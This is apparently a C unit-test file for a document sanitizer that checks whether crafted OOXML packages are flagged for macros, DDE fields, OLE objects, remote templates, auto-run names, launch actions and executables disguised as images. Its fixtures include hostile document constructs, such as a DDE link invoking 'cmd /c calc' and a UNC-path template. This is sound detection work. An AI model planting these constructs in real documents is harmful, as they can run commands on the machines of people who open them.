/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * test_inspect_ooxml.c: packages of OOXML, honest and armed.
 */
#include "sanitizer/compound.h"
#include "sanitizer/inspected.h"
#include "sanitizer/zips.h"

#define CONTENT_TYPES(more)                                                                        \
	"<?xml version='1.0' encoding='UTF-8'?>"                                                   \
	"<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"             \
	"<Default Extension='xml' ContentType='application/xml'/>"                                 \
	"<Default Extension='rels' "                                                               \
	"ContentType='application/vnd.openxmlformats-package.relationships+xml'/>" more "</Types>"
#define RELATIONS(more)                                                                            \
	"<Relationships "                                                                          \
	"xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>" more               \
	"</Relationships>"
#define TRANSITIONAL "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
#define STRICT "http://purl.oclc.org/ooxml/officeDocument/relationships/"
#define RELATION(type, target, mode)                                                               \
	RELATIONS("<Relationship Id='r1' Type='" type "' Target='" target "' " mode "/>")
#define OUTSIDE "TargetMode='External'"

static void package_is(const char *name, const struct zip_recipe *r, const char *want)
{
	g_autoptr(GByteArray) b = zip_make(r);

	inspected_is(name, TYPE_DOCX, (const char *)b->data, b->len, want);
}

/* A document with one more part ${name}, of a content type of its own. */
static void part_is(const char *types, const char *name, const char *data, const char *want)
{
	struct zip_recipe r = {
		.entries = { { .name = "[Content_Types].xml", .data = types, .is_deflated = true },
			     { .name = "word/document.xml", .data = "<w:document xmlns:w='w'/>" },
			     { .name = name, .data = data, .is_deflated = true } }
	};

	package_is(data, &r, want);
}

static void relation_is(const char *xml, const char *want)
{
	part_is(CONTENT_TYPES(""), "word/_rels/document.xml.rels", xml, want);
}

static void markup_is(const char *xml, const char *want)
{
	part_is(CONTENT_TYPES(""), "word/header1.xml", xml, want);
}

START_TEST(finds_nothing_in_honest_relations)
{
	relation_is(RELATION(TRANSITIONAL "image", "media/1.png", ""), "");
	relation_is(RELATION(TRANSITIONAL "hyperlink", "https://example.jp/", OUTSIDE), "");
	relation_is(RELATION(TRANSITIONAL "hyperlink", "mailto:a@example.jp", OUTSIDE), "");
	relation_is(RELATION(TRANSITIONAL "hyperlink", "other.docx", OUTSIDE), "");
	relation_is(
		RELATION(TRANSITIONAL "attachedTemplate", "file:///C:\\t\\letter.dotx", OUTSIDE),
		"");
	relation_is(RELATION(TRANSITIONAL "comments", "comments.xml", ""), "");
	relation_is(RELATION(TRANSITIONAL "font", "fonts/font1.odttf", ""), "");
	relation_is(RELATION(TRANSITIONAL "ctrlProp", "../ctrlProps/1.xml", ""), "");
	relation_is(RELATION(TRANSITIONAL "image", "NULL", OUTSIDE), "");
}
END_TEST

START_TEST(knows_relations_in_both_forms)
{
	relation_is(RELATION("http://schemas.microsoft.com/office/2006/relationships/vbaProject",
			     "x.bin", ""),
		    "macro");
	relation_is(RELATION("http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
			     "macrosheets/1.xml", ""),
		    "macro-xlm");
	relation_is(RELATION(TRANSITIONAL "oleObject", "embeddings/1.bin", ""), "ole-object");
	relation_is(RELATION(STRICT "oleObject", "embeddings/1.bin", ""), "ole-object");
	relation_is(RELATION(TRANSITIONAL "oleObject", "http://example.jp/", OUTSIDE),
		    "ole-object external-link");
	relation_is(RELATION(TRANSITIONAL "package", "embeddings/1.xlsx", ""), "embedded-file");
	relation_is(RELATION(TRANSITIONAL "control", "activeX/1.xml", ""), "activex");
	relation_is(RELATION(TRANSITIONAL "aFChunk", "a.rtf", ""), "embedded-file");
	relation_is(RELATION(TRANSITIONAL "image", "http://example.jp/1.png", OUTSIDE),
		    "external-link");
	relation_is(RELATION(STRICT "frame", "http://example.jp/1.html", OUTSIDE), "external-link");
	relation_is(RELATION(TRANSITIONAL "image", "http://example.jp/1.png", ""), "external-link");
	relation_is(RELATION(TRANSITIONAL "attachedTemplate", "https://example.jp/x.dotm", OUTSIDE),
		    "external-template");
	relation_is(RELATION(STRICT "attachedTemplate", "\\\\server\\x.dotm", OUTSIDE),
		    "external-template");
	relation_is(RELATION(TRANSITIONAL "hyperlink", "\\\\server\\x", OUTSIDE), "external-link");
	relation_is(RELATION(TRANSITIONAL "hyperlink", "ms-word:ofe|u|http://x", OUTSIDE),
		    "external-link");
	relation_is(RELATION("x/webextensiontaskpanes", "taskpanes.xml", ""), "script-inside");
}
END_TEST

START_TEST(believes_relations_in_odd_places)
{
	part_is(CONTENT_TYPES(""), "odd/place.bin",
		"<?xml version='1.0'?>" RELATION(TRANSITIONAL "oleObject", "x", ""), "ole-object");
}
END_TEST

START_TEST(tells_charts_from_embedded_files)
{
	const char *numbers = RELATION(TRANSITIONAL "package", "../embeddings/1.xlsx", "");
	const char *chart =
		CONTENT_TYPES("<Override PartName='/ppt/charts/chart1.xml' ContentType="
			      "'application/vnd.openxmlformats-officedocument.drawingml.chart"
			      "+xml'/>");

	part_is(chart, "ppt/charts/_rels/chart1.xml.rels", numbers, "");
	part_is(CONTENT_TYPES(""), "ppt/charts/_rels/chart1.xml.rels", numbers, "embedded-file");
}
END_TEST

START_TEST(finds_fields_split_over_runs)
{
	markup_is("<w:hdr xmlns:w='w'><w:r><w:fldChar w:fldCharType='begin'/></w:r>"
		  "<w:r><w:instrText> DD</w:instrText></w:r><w:r><w:t>x</w:t></w:r>"
		  "<w:r><w:fldChar w:fldCharType='end'/></w:r></w:hdr>",
		  "");
	markup_is("<w:hdr xmlns:w='w'><w:r><w:fldChar w:fldCharType='begin'/></w:r>"
		  "<w:r><w:instrText> DD</w:instrText></w:r><w:r><w:instrText>EAUTO "
		  "c:\\x</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r></w:hdr>",
		  "dde");
	markup_is("<w:hdr xmlns:w='w'><w:fldSimple w:instr=' DDE a b'/></w:hdr>", "dde");
	markup_is("<w:hdr xmlns:w='w'><w:fldSimple w:instr='PAGE'/></w:hdr>", "");
}
END_TEST

START_TEST(knows_elements_that_act)
{
	markup_is("<w:p xmlns:w='w' xmlns:o='o'><o:OLEObject Type='Embed' ProgID='Package'/></w:p>",
		  "ole-object");
	markup_is("<w:p xmlns:w='w' xmlns:o='o'><o:OLEObject Type='Link' ProgID='Package'/></w:p>",
		  "ole-object external-link");
	markup_is("<externalLink><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>",
		  "dde");
	markup_is("<externalLink><oleLink progId='Word.Document'/></externalLink>",
		  "ole-object external-link");
	markup_is("<workbook><definedName name='_xlnm.Auto_Open' hidden='1'/></workbook>",
		  "auto-run");
	markup_is("<workbook><definedName name='_xlnm.Print_Area'/></workbook>", "");
	markup_is("<connections><connection><webPr url='http://x/'/></connection></connections>",
		  "external-link");
	markup_is("<customUI onLoad='x'/>", "auto-run");
	markup_is("<customUI/>", "");
	markup_is("<a:x xmlns:a='a'><a:hlinkClick action='ppaction://program'/></a:x>",
		  "launch-action");
	markup_is("<a:x xmlns:a='a'><a:hlinkClick action='ppaction://hlinksldjump'/></a:x>", "");
	markup_is("<sheet><f>_xlfn.WEBSERVICE(\"http://x/\"&amp;A1)</f></sheet>", "external-link");
	markup_is("<sheet><f>SUM(A1:A2)</f><v>webservice(</v></sheet>", "");
	markup_is("<w:frame xmlns:w='w'><w:sourceFileName w:val='http://x/'/></w:frame>",
		  "external-link");
}
END_TEST

START_TEST(believes_content_types)
{
	part_is(CONTENT_TYPES("<Override PartName='/a/b.dat' ContentType="
			      "'application/vnd.ms-office.vbaProject'/>"),
		"a/b.dat", "x", "macro");
	part_is(CONTENT_TYPES("<Default Extension='dat' "
			      "ContentType='application/vnd.ms-excel.macrosheet+xml'"
			      "/>"),
		"a/b.dat", "<xm/>", "macro-xlm");
	/* A default that no part has says nothing. */
	part_is(CONTENT_TYPES("<Default Extension='bin' ContentType='x/oleObject'/>"), "a/b.dat",
		"x", "");
}
END_TEST

START_TEST(looks_at_bytes_not_names)
{
	struct compound_part parts[] = { { "VBA/_VBA_PROJECT", "AutoOpen", 8 } };
	g_autoptr(GByteArray) macros = compound_of(parts, 1);
	struct zip_recipe r = { .entries = { { .name = "[Content_Types].xml",
					       .data = CONTENT_TYPES("") },
					     { .name = "word/media/1.png",
					       .data = (const char *)macros->data,
					       .data_len = macros->len,
					       .is_deflated = true } } };

	package_is("macros called a picture", &r, "macro auto-run");
	part_is(CONTENT_TYPES(""), "word/media/1.png", "MZ\x90", "type-executable-inside");
	part_is(CONTENT_TYPES(""), "word/media/1.png", "\x89PNG\r\n\x1a\n", "");
}
END_TEST

START_TEST(looks_into_the_numbers_of_charts)
{
	struct zip_recipe inner = {
		.entries = { { .name = "[Content_Types].xml", .data = CONTENT_TYPES("") },
			     { .name = "xl/workbook.xml",
			       .data = "<x><definedName name='Auto_Open'/></x>" } }
	};
	g_autoptr(GByteArray) workbook = zip_make(&inner);
	struct zip_recipe r = { .entries = { { .name = "[Content_Types].xml",
					       .data = CONTENT_TYPES("") },
					     { .name = "ppt/embeddings/1.xlsx",
					       .data = (const char *)workbook->data,
					       .data_len = workbook->len } } };

	package_is("a workbook within", &r, "auto-run");
}
END_TEST

START_TEST(reads_records_of_binary_workbooks)
{
	static const char types[] =
		CONTENT_TYPES("<Default Extension='bin' "
			      "ContentType='application/vnd.ms-excel.externalLink'/>");
	static const struct {
		const char *data;
		size_t n;
		const char *want;
	} cases[] = {
		{ "\xe8\x02\2\1\0", 5, "dde" },
		{ "\xe8\x02\2\2\0", 5, "ole-object external-link" },
		{ "\x83\x01\0\xe8\x02\2\0\0", 8, "external-link" },
		{ "\x27\x12"
		  "A\0u\0t\0o\0_\0O\0p\0e\0n\0",
		  20, "auto-run" },
		{ "\x27\x80\x80\x80\x80\x80", 6, "" },
		{ "\x83\x01\0", 3, "" },
	};

	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++) {
		struct zip_recipe r = { .entries = {
						{ .name = "[Content_Types].xml", .data = types },
						{ .name = "xl/externalLink1.bin",
						  .data = cases[i].data,
						  .data_len = cases[i].n } } };
		package_is("records", &r, cases[i].want);
	}
}
END_TEST

START_TEST(says_what_cannot_be_read)
{
	part_is("<Types>", "a.xml", "<a/>", "type-damaged");
	markup_is("<a>", "type-damaged");
	markup_is("<!DOCTYPE a [<!ENTITY x 'y'>]><a>&x;</a>", "type-damaged");
	part_is(CONTENT_TYPES("<Default Extension='vml' ContentType="
			      "'application/vnd.openxmlformats-officedocument.vmlDrawing'/>"),
		"xl/drawings/1.vml", "<xml><div>a<br>b</div></xml>", "");
	inspected_is("no zip", TYPE_DOCX, "PK\3\4", 4, "type-damaged");
}
END_TEST

START_TEST(says_what_readers_see_differently)
{
	struct zip_recipe twice = {
		.entries = { { .name = "[Content_Types].xml", .data = CONTENT_TYPES("") },
			     { .name = "word/document.xml", .data = "<a/>" },
			     { .name = "WORD/document.xml", .data = "<b/>" } }
	};
	struct zip_recipe locked = {
		.entries = { { .name = "[Content_Types].xml", .data = CONTENT_TYPES("") },
			     { .name = "word/document.xml", .data = "x", .flags = 1 } }
	};

	package_is("two parts of one name", &twice, "type-damaged");
	package_is("locked", &locked, "encrypted");
}
END_TEST

START_TEST(reads_single_files_of_xml)
{
	static const struct {
		enum type_id type;
		const char *data, *want;
	} cases[] = {
		{ TYPE_WORDML, "<w:wordDocument xmlns:w='w' w:macrosPresent='yes'/>", "macro" },
		{ TYPE_WORDML,
		  "<w:wordDocument xmlns:w='w' w:macrosPresent='no'><w:binData "
		  "w:name='editdata.mso'/></w:wordDocument>",
		  "macro" },
		{ TYPE_WORDML, "<w:wordDocument xmlns:w='w' w:macrosPresent='no'/>", "" },
		{ TYPE_FLAT_OPC,
		  "<p:package xmlns:p='p'><p:part p:name='/word/vbaProject.bin' "
		  "p:contentType='application/vnd.ms-office.vbaProject'/></p:package>",
		  "macro" },
		{ TYPE_EXCELML, "<Workbook>", "type-damaged" },
	};

	for (size_t i = 0; i < G_N_ELEMENTS(cases); i++)
		inspected_is(cases[i].data, cases[i].type, cases[i].data, strlen(cases[i].data),
			     cases[i].want);
}
END_TEST

static void add(TCase *t)
{
	tcase_add_test(t, finds_nothing_in_honest_relations);
	tcase_add_test(t, knows_relations_in_both_forms);
	tcase_add_test(t, believes_relations_in_odd_places);
	tcase_add_test(t, tells_charts_from_embedded_files);
	tcase_add_test(t, finds_fields_split_over_runs);
	tcase_add_test(t, knows_elements_that_act);
	tcase_add_test(t, believes_content_types);
	tcase_add_test(t, looks_at_bytes_not_names);
	tcase_add_test(t, looks_into_the_numbers_of_charts);
	tcase_add_test(t, reads_records_of_binary_workbooks);
	tcase_add_test(t, says_what_cannot_be_read);
	tcase_add_test(t, says_what_readers_see_differently);
	tcase_add_test(t, reads_single_files_of_xml);
}

UNIT_MAIN("inspect_ooxml", add)
